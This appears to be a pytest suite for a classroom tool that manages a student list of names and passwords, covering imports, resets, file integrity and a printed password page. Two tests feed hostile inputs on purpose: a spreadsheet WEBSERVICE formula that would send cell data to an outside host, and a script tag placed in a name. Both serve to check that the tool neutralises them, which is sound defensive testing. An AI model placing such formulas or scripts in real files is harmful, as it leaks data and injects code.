"""Changes of the class list: checked before they replace it, and nothing else in the file changes."""

import os
import re
import secrets
import subprocess
import sys
from pathlib import Path

import pytest

import classlist
import roll

ROOT = Path(__file__).resolve().parents[1]
ROLL = [sys.executable, "-m", "roll", "--list"]
ENVIRONMENT = {**os.environ, "PYTHONPATH": f"{ROOT}/classroom/hub:{ROOT}/scripts"}
PLAIN = "name,password,role\nteach,violet-otter,instructor\nanna,brown-badger,\n"


@pytest.fixture
def path(tmp_path: Path) -> Path:
    """A class list."""
    (tmp_path / "students.csv").write_text(PLAIN)
    return tmp_path / "students.csv"


def call(path: Path, *arguments: str, stdin: bytes = b"") -> subprocess.CompletedProcess[str]:
    """Runs roll.py as scripts/classroom.sh does."""
    command = [*ROLL, str(path), *arguments]
    done = subprocess.run(command, env=ENVIRONMENT, input=stdin, check=False, capture_output=True)
    return subprocess.CompletedProcess(command, done.returncode, done.stdout.decode(), done.stderr.decode())


def given(done: subprocess.CompletedProcess[str]) -> dict[str, str]:
    """The first passwords that a command printed, by name."""
    assert done.returncode == 0, done.stderr
    pairs = re.findall(r"^(\S+)  ([a-z2-9]{4}-[a-z2-9]{4}-[a-z2-9]{4})$", done.stdout, re.MULTILINE)
    assert len(pairs) == len(done.stdout.splitlines())
    return dict(pairs)


def test_add(path: Path) -> None:
    passwords = given(call(path, "add", "ben", "carl"))
    assert path.read_text() == PLAIN + f"ben,{passwords['ben']},student\ncarl,{passwords['carl']},student\n"


@pytest.mark.parametrize(
    ("names", "why"),
    [
        (["ben", "ben"], "ben is named twice"),
        (["ben", "anna"], "anna is in students.csv already: scripts/classroom.sh reset anna"),
        (["Ben"], "'Ben' is no name for an account"),
        (["ben,x"], "is no name for an account"),
        (["a" * 33], "is no name for an account"),
    ],
)
def test_add_all_or_none(path: Path, names: list[str], why: str) -> None:
    done = call(path, "add", *names)
    assert done.returncode == 1 and done.stdout == "" and why in done.stderr and done.stderr.count("\n") == 1
    assert path.read_text() == PLAIN


def test_reset_changes_one_password(path: Path) -> None:
    path.write_text(PLAIN + "a.b,brown-stoat,\naxb,brown-otter,\n")
    passwords = given(call(path, "reset", "a.b", "a.b"))
    assert path.read_text() == PLAIN + f"a.b,{passwords['a.b']},\naxb,brown-otter,\n"


def test_reset_of_somebody_else(path: Path) -> None:
    done = call(path, "reset", "anna", "ann")
    assert done.returncode == 1 and "'ann' is not in students.csv" in done.stderr and path.read_text() == PLAIN


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(PLAIN.replace("brown-badger", '"brown, badger"'), id="comma in the password"),
        pytest.param(PLAIN.replace(",", ";").replace("brown-badger", '"brown; badger"'), id="semicolons"),
        pytest.param("sep=;\r\n" + PLAIN.replace(",", ";").replace("\n", "\r\n") + ";;\r\n", id="Excel"),
        pytest.param("role,who,name\ninstructor,,teach\n# a remark\n,Anna,anna\n", id="no passwords"),
        pytest.param(PLAIN.removesuffix("\n"), id="no end of the last line"),
        pytest.param("\ufeff" + PLAIN.replace("violet-otter", "grüner-dachs"), id="UTF-8"),
        pytest.param(PLAIN.encode("utf-16"), id="UTF-16"),
    ],
)
def test_a_change_leaves_the_rest_as_it_is(path: Path, content: str | bytes) -> None:
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    before = {person.name: person for person in classlist.people_of(classlist.load(path)).values()}
    first = path.read_bytes()[:1]
    passwords = {**given(call(path, "reset", "anna")), **given(call(path, "add", "ben"))}
    after = {person.name: person for person in classlist.people_of(classlist.load(path)).values()}
    assert after["teach"] == before["teach"] and list(after) == ["teach", "anna", "ben"]
    assert {name: after[name].password for name in passwords} == passwords
    assert isinstance(content, bytes) or path.read_bytes()[:1] == first


def test_a_list_with_a_mistake_is_not_touched(path: Path) -> None:
    wrong = PLAIN + 'ben,"brown-stoat,\n'
    path.write_text(wrong)
    for command in (["add", "carl"], ["reset", "anna"], ["fill"], ["check"], ["import", "x.csv"]):
        done = call(path, *command, stdin=b"name\ncarl\n")
        assert done.returncode == 1 and "students.csv, line 4: a quote" in done.stderr and path.read_text() == wrong, command


def test_anothers_weak_password_is_said_and_stops_nothing(path: Path) -> None:
    path.write_text(PLAIN.replace("violet-otter", "pw"))
    done = call(path, "reset", "anna")
    assert given(done) and "line 2: the first password of teach has less than 8 characters" in done.stderr


def test_a_link_stays_a_link(path: Path, tmp_path: Path) -> None:
    link = tmp_path / "link" / "students.csv"
    link.parent.mkdir()
    link.symlink_to(path)
    given(call(link, "add", "ben"))
    assert link.is_symlink() and "ben" in path.read_text()


def test_mode_and_owner_stay(path: Path) -> None:
    path.chmod(0o640)
    if os.geteuid() == 0:
        os.chown(path, 1234, 2345)
    before = path.stat()
    given(call(path, "add", "ben"))
    after = path.stat()
    assert (after.st_mode, after.st_uid, after.st_gid) == (before.st_mode, before.st_uid, before.st_gid)
    assert [entry.name for entry in path.parent.iterdir()] == ["students.csv"]


def test_a_change_that_is_no_class_list_is_not_written(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    changed = roll.Roll(path)
    changed.table.append({"name": "Not A Name"})
    with pytest.raises(classlist.ListError, match="line 4"):
        changed.save()
    assert path.read_text() == PLAIN


def test_two_at_once_lose_nobody(path: Path) -> None:
    both = [subprocess.Popen([*ROLL, str(path), "add", name], env=ENVIRONMENT, stdout=subprocess.DEVNULL) for name in ("ben", "carl")]
    assert [process.wait() for process in both] == [0, 0]
    assert set(classlist.read(path)) == {"teach", "anna", "ben", "carl"}


def test_fill_makes_the_passwords_that_are_missing(path: Path) -> None:
    path.write_text("# mine\nname,role\nteach,instructor\nanna\n")
    done = call(path, "--address", "http://class:8000/", "fill")
    passwords = given(done)
    assert path.read_text() == f"# mine\nname,role,password\nteach,instructor,{passwords['teach']}\nanna,,{passwords['anna']}\n"
    (page,) = path.parent.glob("first-passwords-*.html")
    assert page.name in done.stderr and page.stat().st_mode & 0o777 == 0o600
    assert passwords["anna"] in page.read_text() and "http://class:8000/" in page.read_text()
    again = call(path, "fill")
    assert given(again) == {} and again.stderr == "" and len(list(path.parent.iterdir())) == 2


MOODLE = """First name,Surname,ID number,Email address,Groups
"Ánna",Müller,1,anna.mueller@uni.example,"A, B"
Ben,"O'Neil, Jr.",2,ben@x.example,
Ben,Other,3,ben@y.example,
王,小明,4,123456@uni.example,
"""


def test_import_makes_names_passwords_and_a_page(tmp_path: Path) -> None:
    path = tmp_path / "students.csv"
    done = call(path, "--address", "http://class:8000/", "import", "moodle.csv", stdin=MOODLE.encode("utf-8-sig"))
    passwords = given(done)
    assert list(passwords) == ["anna.mueller", "ben", "ben2", "s123456", "instructor"]
    people = classlist.read(path)
    assert {person.name: person.password for person in people.values()} == passwords
    assert [person.name for person in people.values() if person.role == "instructor"] == ["instructor"]
    (page,) = tmp_path.glob("first-passwords-*.html")
    text = page.read_text(encoding="utf-8")
    assert text.count("<section>") == 5 and "Ánna Müller" in text and all(word in text for word in passwords.values())


def test_who_is_there_keeps_account_and_password(path: Path) -> None:
    given(call(path, "import", "moodle.csv", stdin=MOODLE.encode()))
    before = classlist.read(path)
    assert before["anna"].password == "brown-badger"
    later = MOODLE.replace("Ben,Other,3,ben@y.example,\n", "").replace("Ben,", "Benjamin,") + "New,One,5,ben@z.example,\n"
    assert list(given(call(path, "import", "moodle.csv", stdin=later.encode()))) == ["ben3"]
    after = classlist.read(path)
    assert {name: after[name] for name in before} == before


def test_who_was_added_by_hand_is_not_doubled(path: Path) -> None:
    assert list(given(call(path, "import", "list.csv", stdin=b"Email\nanna@x.example\nanna@y.example\n"))) == ["anna2"]
    assert given(call(path, "import", "list.csv", stdin=b"Email\nanna@y.example\nanna@x.example\n")) == {}
    assert classlist.read(path)["anna"].password == "brown-badger"


def test_an_instructors_line_is_given_to_no_student(path: Path) -> None:
    """Else their strip of the printed page would be the instructor's."""
    path.write_text("name,password,role\ninstructor,,instructor\nanna,,\n")
    assert list(given(call(path, "import", "list.csv", stdin=b"Name,Email\nMallory,instructor@x.example\n"))) == ["instructor2"]
    given(call(path, "fill"))
    assert "Mallory" not in max(path.parent.glob("*.html")).read_text().partition("instructor</dd>")[0]


def test_a_name_that_looks_like_anothers_address_is_a_name(path: Path) -> None:
    people = b"Name,Email\nMallory ben@x.example,m@x.example\nBen,ben@x.example\n"
    assert list(given(call(path, "import", "list.csv", stdin=people))) == ["m", "ben"]
    assert given(call(path, "import", "list.csv", stdin=people)) == {}


def test_a_name_is_no_formula(path: Path) -> None:
    call(path, "import", "list.csv", stdin=b'Name,Email\n"=WEBSERVICE(""http://x.example/""&B2)",m@x.example\n')
    assert "=" not in path.read_text()


def test_namesakes_without_addresses_are_two(tmp_path: Path) -> None:
    path, names = tmp_path / "students.csv", b"Name\nAnna Berg\nAnna Berg\n"
    assert list(given(call(path, "import", "list.csv", stdin=names))) == ["anna.berg", "anna.berg2", "instructor"]
    assert given(call(path, "import", "list.csv", stdin=names)) == {}


def test_no_password_is_made_that_the_list_may_not_have(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    drawn = iter("a234567892a4" + "2b4567892345")
    monkeypatch.setattr(secrets, "choice", lambda _: next(drawn))
    one = roll.Roll(path)
    one.add("a")
    one.save()
    assert classlist.read(path)["a"].password == "2b45-6789-2345"


def test_import_takes_a_class_of_thirty_from_excel(tmp_path: Path) -> None:
    lines = "Nachname;Vorname;E-Mail-Adresse\r\n" + "".join(f"Groß{n};Jürgen;jürgen{n}@schule.example\r\n" for n in range(30)) + ";;\r\n"
    done = call(tmp_path / "students.csv", "import", "class.csv", stdin=lines.encode("cp1252"))
    assert len(given(done)) == 31 and "jurgen0" in done.stdout
    assert "<p>Jürgen Groß0</p>" in next(tmp_path.glob("*.html")).read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"", "list.csv names nobody"),
        (b"First name,Surname\n", "list.csv names nobody"),
        (b"Colour,Size\nred,3\n", "list.csv, line 1: the headings are 'colour', 'size': want Email address"),
        (b'First name,Email\nAnna,a@x.example\n,\nx,"open\n', "list.csv, line 4: a quote"),
        (b"First name,Surname,Note\nAnna,Berg,x\n,,late\n", "list.csv, line 3: it names nobody"),
        (b"PK\x03\x04", "list.csv is a spreadsheet's own file"),
    ],
)
def test_import_names_what_it_cannot_take(path: Path, content: bytes, why: str) -> None:
    done = call(path, "import", "list.csv", stdin=content)
    assert done.returncode == 1 and why in done.stderr and done.stdout == "" and path.read_text() == PLAIN


def test_names_on_the_page_are_text(tmp_path: Path) -> None:
    call(tmp_path / "students.csv", "import", "list.csv", stdin=b"Name\n<script>x</script> Berg\n")
    assert "<script>" not in next(tmp_path.glob("*.html")).read_text()
